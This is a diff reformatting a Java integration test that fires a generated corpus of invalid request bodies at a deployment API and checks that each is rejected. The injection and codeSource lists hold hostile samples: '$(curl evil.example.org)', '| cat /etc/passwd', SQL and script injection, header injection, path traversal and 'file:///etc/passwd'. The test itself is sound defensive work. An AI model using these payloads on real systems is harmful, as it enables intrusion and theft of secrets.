@@ -2,6 +2,10 @@ package org.kotta.deployer.localcloud;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import java.nio.charset.StandardCharsets;
 import java.security.SecureRandom;
 import java.util.ArrayList;
@@ -13,15 +17,9 @@ import java.util.concurrent.Executors;
 import java.util.concurrent.Future;
 import java.util.concurrent.TimeUnit;
 import java.util.function.Consumer;
-
 import org.junit.jupiter.api.Test;
 import org.kotta.deployer.core.AwsClients;
 import org.kotta.deployer.localcloud.SignedApiClient.Response;
-
-import com.fasterxml.jackson.databind.JsonNode;
-import com.fasterxml.jackson.databind.node.ArrayNode;
-import com.fasterxml.jackson.databind.node.JsonNodeFactory;
-import com.fasterxml.jackson.databind.node.ObjectNode;
 
 /**
  * Bad input: a corpus of bad request bodies generated from the request rules
@@ -48,8 +46,7 @@ class BadInputCorpusIT {
         MALFORMED
     }
 
-    record Case(String name, String body, String field, Expect expect, String anchor) {
-    }
+    record Case(String name, String body, String field, Expect expect, String anchor) {}
 
     /** The generator: every body is a valid request with one change (plus the anchor when the change is fine). */
     static final class Corpus {
@@ -96,7 +93,9 @@ class BadInputCorpusIT {
         }
 
         private static ObjectNode target(ObjectNode body, String path) {
-            return path.startsWith("adminUsers[0].") ? (ObjectNode) body.path("adminUsers").get(0) : body;
+            return path.startsWith("adminUsers[0].")
+                    ? (ObjectNode) body.path("adminUsers").get(0)
+                    : body;
         }
 
         private static String leaf(String path) {
@@ -105,14 +104,15 @@ class BadInputCorpusIT {
     }
 
     /** The request's fields as the rules see them. */
-    private record Field(String name, boolean required, boolean text, boolean integer, boolean number,
-                         boolean array) {
+    private record Field(String name, boolean required, boolean text, boolean integer, boolean number, boolean array) {
         boolean accepts(JsonNode value) {
             if (value.isNull()) {
                 return !required;
             }
-            return (text && value.isTextual()) || (integer && value.isIntegralNumber())
-                    || (number && value.isNumber()) || (array && value.isArray());
+            return (text && value.isTextual())
+                    || (integer && value.isIntegralNumber())
+                    || (number && value.isNumber())
+                    || (array && value.isArray());
         }
     }
 
@@ -138,9 +138,18 @@ class BadInputCorpusIT {
             new Field("adminUsers[0].name", false, true, false, false, false));
 
     /** The string fields whose values follow a pattern (everything but an admin's name and the key pair). */
-    private static final List<String> PATTERNED = List.of("stackName", "region", "jobsBucketName", "domainName",
-            "certificateArn", "oauthClientId", "oauthClientSecretArn", "webServerInstanceType",
-            "taskExecutorInstanceType", "codeSource", "adminUsers[0].email");
+    private static final List<String> PATTERNED = List.of(
+            "stackName",
+            "region",
+            "jobsBucketName",
+            "domainName",
+            "certificateArn",
+            "oauthClientId",
+            "oauthClientSecretArn",
+            "webServerInstanceType",
+            "taskExecutorInstanceType",
+            "codeSource",
+            "adminUsers[0].email");
 
     static List<Case> generate(ObjectNode valid) {
         Corpus corpus = new Corpus(valid);
@@ -166,7 +175,8 @@ class BadInputCorpusIT {
         samples.put("null", NODES.nullNode());
         for (Field field : FIELDS) {
             samples.forEach((type, value) -> {
-                if (field.text() && value.isTextual() || field.array() && value.isArray()
+                if (field.text() && value.isTextual()
+                        || field.array() && value.isArray()
                         || field.integer() && value.isIntegralNumber()) {
                     return; // the right type: not this section's business
                 }
@@ -188,15 +198,24 @@ class BadInputCorpusIT {
             }
         });
         corpus.fine("refreshImage as false", "refreshImage", Corpus.set("refreshImage", NODES.booleanNode(false)));
-        corpus.bad("refreshImage as the string true", "refreshImage", Corpus.set("refreshImage", NODES.textNode("true")));
+        corpus.bad(
+                "refreshImage as the string true", "refreshImage", Corpus.set("refreshImage", NODES.textNode("true")));
         // the one-of pair: a hosted zone id as well as a certificate, a wrong-typed one
-        corpus.bad("hostedZoneId as number next to certificateArn", "hostedZoneId",
+        corpus.bad(
+                "hostedZoneId as number next to certificateArn",
+                "hostedZoneId",
                 Corpus.set("hostedZoneId", NODES.numberNode(7)));
-        corpus.fine("hostedZoneId null next to certificateArn", "hostedZoneId",
+        corpus.fine(
+                "hostedZoneId null next to certificateArn",
+                "hostedZoneId",
                 Corpus.set("hostedZoneId", NODES.nullNode()));
-        corpus.bad("adminUsers[0] as string", "adminUsers[0]",
+        corpus.bad(
+                "adminUsers[0] as string",
+                "adminUsers[0]",
                 body -> ((ArrayNode) body.get("adminUsers")).set(0, NODES.textNode("pi@example.org")));
-        corpus.bad("adminUsers[0] as null", "adminUsers[0]",
+        corpus.bad(
+                "adminUsers[0] as null",
+                "adminUsers[0]",
                 body -> ((ArrayNode) body.get("adminUsers")).set(0, NODES.nullNode()));
     }
 
@@ -212,8 +231,17 @@ class BadInputCorpusIT {
     }
 
     private static void unknownFields(Corpus corpus) {
-        for (String name : List.of("extra", "StackName", "stack_name", "__proto__", "constructor", "$where",
-                "password", "stackName ", "", "Region")) {
+        for (String name : List.of(
+                "extra",
+                "StackName",
+                "stack_name",
+                "__proto__",
+                "constructor",
+                "$where",
+                "password",
+                "stackName ",
+                "",
+                "Region")) {
             corpus.bad("unknown field '" + name + "'", name, Corpus.set(name, "kotta"));
         }
         corpus.bad("unknown field with a control character", "stack?Name", Corpus.set("stack\u0001Name", "kotta"));
@@ -235,8 +263,16 @@ class BadInputCorpusIT {
         corpus.fine("jobsBucketName 3 characters", "jobsBucketName", Corpus.set("jobsBucketName", "abc"));
         corpus.fine("jobsBucketName 63 characters", "jobsBucketName", Corpus.set("jobsBucketName", "b".repeat(63)));
         corpus.bad("jobsBucketName 64 characters", "jobsBucketName", Corpus.set("jobsBucketName", "b".repeat(64)));
-        for (String name : List.of("Kotta-Jobs", "kotta_jobs", "-kotta", "kotta-", "kotta..jobs", "192.168.1.1",
-                "xn--kotta", "kotta-s3alias", "sthree-kotta")) {
+        for (String name : List.of(
+                "Kotta-Jobs",
+                "kotta_jobs",
+                "-kotta",
+                "kotta-",
+                "kotta..jobs",
+                "192.168.1.1",
+                "xn--kotta",
+                "kotta-s3alias",
+                "sthree-kotta")) {
             corpus.bad("jobsBucketName '" + name + "'", "jobsBucketName", Corpus.set("jobsBucketName", name));
         }
 
@@ -244,8 +280,14 @@ class BadInputCorpusIT {
         corpus.bad("domainName label 64", "domainName", Corpus.set("domainName", "d".repeat(64) + ".org"));
         corpus.fine("domainName 253 characters", "domainName", Corpus.set("domainName", domainOfLength(253)));
         corpus.bad("domainName 254 characters", "domainName", Corpus.set("domainName", domainOfLength(254)));
-        for (String name : List.of("localhost", "kotta..example.org", ".example.org", "example.org.", "-kotta.org",
-                "kotta.123", "kotta_x.org")) {
+        for (String name : List.of(
+                "localhost",
+                "kotta..example.org",
+                ".example.org",
+                "example.org.",
+                "-kotta.org",
+                "kotta.123",
+                "kotta_x.org")) {
             corpus.bad("domainName '" + name + "'", "domainName", Corpus.set("domainName", name));
         }
 
@@ -260,13 +302,21 @@ class BadInputCorpusIT {
         });
         corpus.fine("admin name 128", "adminUsers[0].name", Corpus.set("adminUsers[0].name", "n".repeat(128)));
         corpus.bad("admin name 129", "adminUsers[0].name", Corpus.set("adminUsers[0].name", "n".repeat(129)));
-        corpus.fine("admin e-mail local part 64", "adminUsers[0].email",
+        corpus.fine(
+                "admin e-mail local part 64",
+                "adminUsers[0].email",
                 Corpus.set("adminUsers[0].email", "l".repeat(64) + "@example.org"));
-        corpus.bad("admin e-mail local part 65", "adminUsers[0].email",
+        corpus.bad(
+                "admin e-mail local part 65",
+                "adminUsers[0].email",
                 Corpus.set("adminUsers[0].email", "l".repeat(65) + "@example.org"));
-        corpus.fine("admin e-mail 254", "adminUsers[0].email",
+        corpus.fine(
+                "admin e-mail 254",
+                "adminUsers[0].email",
                 Corpus.set("adminUsers[0].email", "l".repeat(64) + "@" + domainOfLength(189)));
-        corpus.bad("admin e-mail 255", "adminUsers[0].email",
+        corpus.bad(
+                "admin e-mail 255",
+                "adminUsers[0].email",
                 Corpus.set("adminUsers[0].email", "l".repeat(64) + "@" + domainOfLength(190)));
         for (String email : List.of("no-at-sign", "two@@example.org", "@example.org", "a@b", "a..b@example.org")) {
             corpus.bad("admin e-mail '" + email + "'", "adminUsers[0].email", Corpus.set("adminUsers[0].email", email));
@@ -275,28 +325,47 @@ class BadInputCorpusIT {
         corpus.fine("keyPairName 255", "keyPairName", Corpus.set("keyPairName", "k".repeat(255)));
         corpus.bad("keyPairName 256", "keyPairName", Corpus.set("keyPairName", "k".repeat(256)));
 
-        corpus.fine("codeSource key 1024 bytes", "codeSource", Corpus.set("codeSource", codeSourceWithKeyBytes(1024, "k")));
-        corpus.bad("codeSource key 1025 bytes", "codeSource", Corpus.set("codeSource", codeSourceWithKeyBytes(1025, "k")));
-        corpus.bad("codeSource key 1025 bytes of 2-byte characters", "codeSource",
+        corpus.fine(
+                "codeSource key 1024 bytes", "codeSource", Corpus.set("codeSource", codeSourceWithKeyBytes(1024, "k")));
+        corpus.bad(
+                "codeSource key 1025 bytes", "codeSource", Corpus.set("codeSource", codeSourceWithKeyBytes(1025, "k")));
+        corpus.bad(
+                "codeSource key 1025 bytes of 2-byte characters",
+                "codeSource",
                 Corpus.set("codeSource", codeSourceWithKeyBytes(1025, "é")));
-        for (String source : List.of("s3://kotta-code/../etc/site.tar.gz", "s3://kotta-code/site.zip",
-                "https://evil.example.org/site.tar.gz", "file:///etc/passwd", "s3://Kotta_Code/site.tar.gz",
-                "s3://kotta-code/", "s3:///site.tar.gz")) {
+        for (String source : List.of(
+                "s3://kotta-code/../etc/site.tar.gz",
+                "s3://kotta-code/site.zip",
+                "https://evil.example.org/site.tar.gz",
+                "file:///etc/passwd",
+                "s3://Kotta_Code/site.tar.gz",
+                "s3://kotta-code/",
+                "s3:///site.tar.gz")) {
             corpus.bad("codeSource '" + source + "'", "codeSource", Corpus.set("codeSource", source));
         }
 
         corpus.fine("secret name 512", "oauthClientSecretArn", Corpus.set("oauthClientSecretArn", secretArn(512)));
         corpus.bad("secret name 513", "oauthClientSecretArn", Corpus.set("oauthClientSecretArn", secretArn(513)));
-        corpus.bad("secret in another region", "oauthClientSecretArn", Corpus.set("oauthClientSecretArn",
-                "arn:aws:secretsmanager:eu-west-1:123456789012:secret:kotta/lwa"));
-        corpus.bad("certificate in another region", "certificateArn", Corpus.set("certificateArn",
-                "arn:aws:acm:eu-west-1:123456789012:certificate/01234567-89ab-cdef-0123-456789abcdef"));
+        corpus.bad(
+                "secret in another region",
+                "oauthClientSecretArn",
+                Corpus.set("oauthClientSecretArn", "arn:aws:secretsmanager:eu-west-1:123456789012:secret:kotta/lwa"));
+        corpus.bad(
+                "certificate in another region",
+                "certificateArn",
+                Corpus.set(
+                        "certificateArn",
+                        "arn:aws:acm:eu-west-1:123456789012:certificate/01234567-89ab-cdef-0123-456789abcdef"));
         corpus.bad("region in GovCloud", "region", Corpus.set("region", "us-gov-west-1"));
         corpus.bad("region elsewhere than the orchestrator", "region", Corpus.set("region", "eu-west-1"));
-        corpus.bad("both certificateArn and hostedZoneId", "hostedZoneId",
+        corpus.bad(
+                "both certificateArn and hostedZoneId",
+                "hostedZoneId",
                 Corpus.set("hostedZoneId", "Z0123456789ABCDEFGHIJ"));
         corpus.bad("neither certificateArn nor hostedZoneId", "certificateArn", Corpus.remove("certificateArn"));
-        corpus.bad("prodMinWorkers above prodMaxWorkers", "prodMinWorkers",
+        corpus.bad(
+                "prodMinWorkers above prodMaxWorkers",
+                "prodMinWorkers",
                 Corpus.set("prodMinWorkers", NODES.numberNode(5)));
         corpus.fine("prodMaxWorkers 100", "prodMaxWorkers", Corpus.set("prodMaxWorkers", NODES.numberNode(100)));
         corpus.bad("prodMaxWorkers 101", "prodMaxWorkers", Corpus.set("prodMaxWorkers", NODES.numberNode(101)));
@@ -312,35 +381,68 @@ class BadInputCorpusIT {
 
     private static void unicodeAndControlCharacters(Corpus corpus) {
         Map<String, String> control = Map.of(
-                "NUL", "kotta\u0000x", "TAB", "kotta\tx", "CRLF", "kotta\r\nx", "DEL", "kotta\u007fx",
-                "ESC", "kotta\u001b[31mx");
+                "NUL",
+                "kotta\u0000x",
+                "TAB",
+                "kotta\tx",
+                "CRLF",
+                "kotta\r\nx",
+                "DEL",
+                "kotta\u007fx",
+                "ESC",
+                "kotta\u001b[31mx");
         Map<String, String> unicode = Map.of(
-                "accented", "kötta", "right-to-left override", "kotta\u202egpj.exe", "emoji", "kotta\uD83D\uDE00",
-                "zero-width space", "kot\u200Bta", "fullwidth", "ｋｏｔｔａ");
+                "accented",
+                "kötta",
+                "right-to-left override",
+                "kotta\u202egpj.exe",
+                "emoji",
+                "kotta\uD83D\uDE00",
+                "zero-width space",
+                "kot\u200Bta",
+                "fullwidth",
+                "ｋｏｔｔａ");
         for (Field field : FIELDS) {
             if (!field.text()) {
                 continue;
             }
-            control.forEach((what, value) -> corpus.bad(field.name() + " with " + what, field.name(),
-                    Corpus.set(field.name(), value)));
+            control.forEach((what, value) ->
+                    corpus.bad(field.name() + " with " + what, field.name(), Corpus.set(field.name(), value)));
             if (PATTERNED.contains(field.name()) || field.name().equals("keyPairName")) {
-                unicode.forEach((what, value) -> corpus.bad(field.name() + " with " + what, field.name(),
-                        Corpus.set(field.name(), value)));
+                unicode.forEach((what, value) ->
+                        corpus.bad(field.name() + " with " + what, field.name(), Corpus.set(field.name(), value)));
             } else if (field.name().equals("adminUsers[0].name")) {
-                unicode.forEach((what, value) -> corpus.fine(field.name() + " with " + what, field.name(),
-                        Corpus.set(field.name(), value)));
+                unicode.forEach((what, value) ->
+                        corpus.fine(field.name() + " with " + what, field.name(), Corpus.set(field.name(), value)));
             }
         }
     }
 
     private static void injections(Corpus corpus) {
         List<String> attacks = List.of(
-                "' OR '1'='1' --", "kotta; DROP TABLE deployments;", "$(curl evil.example.org)", "`id`",
-                "../../../etc/passwd", "kotta\r\nX-Injected: 1", "<script>alert(1)</script>",
-                "{{resolve:secretsmanager:kotta/lwa:SecretString}}", "!Ref AWS::AccountId", "${AWS::AccountId}",
-                "%00kotta", "| cat /etc/passwd");
-        for (String field : List.of("stackName", "jobsBucketName", "domainName", "region", "webServerInstanceType",
-                "codeSource", "adminUsers[0].email", "certificateArn", "keyPairName", "adminUsers[0].name")) {
+                "' OR '1'='1' --",
+                "kotta; DROP TABLE deployments;",
+                "$(curl evil.example.org)",
+                "`id`",
+                "../../../etc/passwd",
+                "kotta\r\nX-Injected: 1",
+                "<script>alert(1)</script>",
+                "{{resolve:secretsmanager:kotta/lwa:SecretString}}",
+                "!Ref AWS::AccountId",
+                "${AWS::AccountId}",
+                "%00kotta",
+                "| cat /etc/passwd");
+        for (String field : List.of(
+                "stackName",
+                "jobsBucketName",
+                "domainName",
+                "region",
+                "webServerInstanceType",
+                "codeSource",
+                "adminUsers[0].email",
+                "certificateArn",
+                "keyPairName",
+                "adminUsers[0].name")) {
             for (String attack : attacks) {
                 boolean printableAscii = attack.chars().allMatch(c -> c >= 0x20 && c <= 0x7e);
                 // a key pair name is any printable ASCII, an admin's name any text: both are only ever
@@ -358,15 +460,23 @@ class BadInputCorpusIT {
 
     private static void numbers(Corpus corpus) {
         for (String field : List.of("prodMinWorkers", "prodMaxWorkers", "testMinWorkers", "testMaxWorkers")) {
-            for (String number : List.of("1e400", "9223372036854775808", "9223372036854775807", "-1", "1.5", "1e2",
-                    "-9223372036854775809", "2147483648", "100000000000000000000000000000000000000")) {
-                corpus.cases.add(new Case(field + " = " + number, with(corpus.valid, field, number), field,
-                        Expect.FIELD, null));
+            for (String number : List.of(
+                    "1e400",
+                    "9223372036854775808",
+                    "9223372036854775807",
+                    "-1",
+                    "1.5",
+                    "1e2",
+                    "-9223372036854775809",
+                    "2147483648",
+                    "100000000000000000000000000000000000000")) {
+                corpus.cases.add(
+                        new Case(field + " = " + number, with(corpus.valid, field, number), field, Expect.FIELD, null));
             }
         }
         for (String number : List.of("1e400", "-1", "0", "1e-400", "9223372036854775808", "100.00001", "-0.0")) {
-            corpus.cases.add(new Case("spotPrice = " + number, with(corpus.valid, "spotPrice", number), "spotPrice",
-                    Expect.FIELD, null));
+            corpus.cases.add(new Case(
+                    "spotPrice = " + number, with(corpus.valid, "spotPrice", number), "spotPrice", Expect.FIELD, null));
         }
     }
 
@@ -381,16 +491,26 @@ class BadInputCorpusIT {
         for (String body : List.of("[]", "[{}]", "\"kotta\"", "42", "true", "null", "-1e400")) {
             corpus.raw("body " + body, body, Expect.BODY);
         }
-        for (String body : List.of("not json", "{", "{\"stackName\": }", "{\"stackName\": \"a\"} {}",
-                "{\"stackName\": \"a\", \"stackName\": \"b\"}", "{'stackName': 'a'}", "NaN", "\u0000")) {
+        for (String body : List.of(
+                "not json",
+                "{",
+                "{\"stackName\": }",
+                "{\"stackName\": \"a\"} {}",
+                "{\"stackName\": \"a\", \"stackName\": \"b\"}",
+                "{'stackName': 'a'}",
+                "NaN",
+                "\u0000")) {
             corpus.raw("body " + body.replace("\u0000", "NUL"), body, Expect.MALFORMED);
         }
         corpus.raw("empty body", "", Expect.MALFORMED);
     }
 
     private static void secrets(Corpus corpus) {
-        corpus.bad("a secret as oauthClientSecretArn", "oauthClientSecretArn", Corpus.set("oauthClientSecretArn", SECRET));
-        corpus.bad("a secret in an extra oauthClientSecret field", "oauthClientSecret",
+        corpus.bad(
+                "a secret as oauthClientSecretArn", "oauthClientSecretArn", Corpus.set("oauthClientSecretArn", SECRET));
+        corpus.bad(
+                "a secret in an extra oauthClientSecret field",
+                "oauthClientSecret",
                 Corpus.set("oauthClientSecret", SECRET));
         corpus.bad("a secret as oauthClientId", "oauthClientId", Corpus.set("oauthClientId", SECRET));
         corpus.bad("a secret as stackName", "stackName", Corpus.set("stackName", SECRET));
@@ -440,15 +560,19 @@ class BadInputCorpusIT {
         }
         int executionsStarted = FaultChecks.executionCount() - executionsBefore;
         int itemsWritten = FaultChecks.deploymentTableItemCount() - itemsBefore;
-        long accepted = cases.stream().filter(c -> c.expect() == Expect.ACCEPTED).count();
+        long accepted =
+                cases.stream().filter(c -> c.expect() == Expect.ACCEPTED).count();
         // a body that got through would be a deployment of this case: its record must exist and have ended
-        List<String> startedIds = answers.stream().filter(a -> a.status() == 202)
-                .map(a -> a.json().path("deploymentId").asText()).toList();
+        List<String> startedIds = answers.stream()
+                .filter(a -> a.status() == 202)
+                .map(a -> a.json().path("deploymentId").asText())
+                .toList();
         List<String> lost = FaultChecks.lostRecords(startedIds);
         List<String> stuck = FaultChecks.stuckDeployments(startedIds);
         long serverErrors = FaultChecks.serverErrors(FaultChecks.answersSince(exchanges));
 
-        ReliabilityReport.record("7-corpus",
+        ReliabilityReport.record(
+                "7-corpus",
                 "A corpus of " + cases.size() + " bad request bodies generated from the request rules (wrong types,"
                         + " missing and unknown fields, boundaries ±1, unicode and control characters, injections,"
                         + " huge numbers, non-objects, secrets)",
@@ -481,20 +605,29 @@ class BadInputCorpusIT {
 
     /** What is wrong with the answer to a case, or null when it is right. */
     private static String check(Case c, Response answer) {
-        String type = answer.status() >= 400 && answer.status() < 500 && answer.header("Content-Type") != null
-                && answer.header("Content-Type").startsWith("application/problem+json")
-                ? answer.json().path("type").asText() : null;
+        String type = answer.status() >= 400
+                        && answer.status() < 500
+                        && answer.header("Content-Type") != null
+                        && answer.header("Content-Type").startsWith("application/problem+json")
+                ? answer.json().path("type").asText()
+                : null;
         if (type == null) {
             return "answered " + answer;
         }
         List<String> fields = FaultChecks.errorFields(answer);
         return switch (c.expect()) {
             case MALFORMED -> (PROBLEM + "malformed-body").equals(type) ? null : "expected malformed-body: " + answer;
-            case BODY, FIELD -> (PROBLEM + "invalid-request").equals(type) && fields.contains(c.field())
-                    && allMessagesGiven(answer.json()) ? null : "expected an error on " + c.field() + ": " + answer;
-            case ACCEPTED -> (PROBLEM + "invalid-request").equals(type) && fields.contains(c.anchor())
-                    && !fields.contains(c.field()) ? null
-                    : "expected " + c.field() + " accepted and only the anchor " + c.anchor() + " flagged: " + answer;
+            case BODY, FIELD ->
+                (PROBLEM + "invalid-request").equals(type)
+                                && fields.contains(c.field())
+                                && allMessagesGiven(answer.json())
+                        ? null
+                        : "expected an error on " + c.field() + ": " + answer;
+            case ACCEPTED ->
+                (PROBLEM + "invalid-request").equals(type) && fields.contains(c.anchor()) && !fields.contains(c.field())
+                        ? null
+                        : "expected " + c.field() + " accepted and only the anchor " + c.anchor() + " flagged: "
+                                + answer;
         };
     }
 
@@ -513,8 +646,12 @@ class BadInputCorpusIT {
         try {
             List<Future<Response>> futures = new ArrayList<>();
             for (Case c : cases) {
-                futures.add(pool.submit(() -> api.send("POST", "/deployments", c.body().getBytes(StandardCharsets.UTF_8),
-                        Map.of("Content-Type", "application/json"), true)));
+                futures.add(pool.submit(() -> api.send(
+                        "POST",
+                        "/deployments",
+                        c.body().getBytes(StandardCharsets.UTF_8),
+                        Map.of("Content-Type", "application/json"),
+                        true)));
             }
             List<Response> answers = new ArrayList<>();
             for (Future<Response> future : futures) {
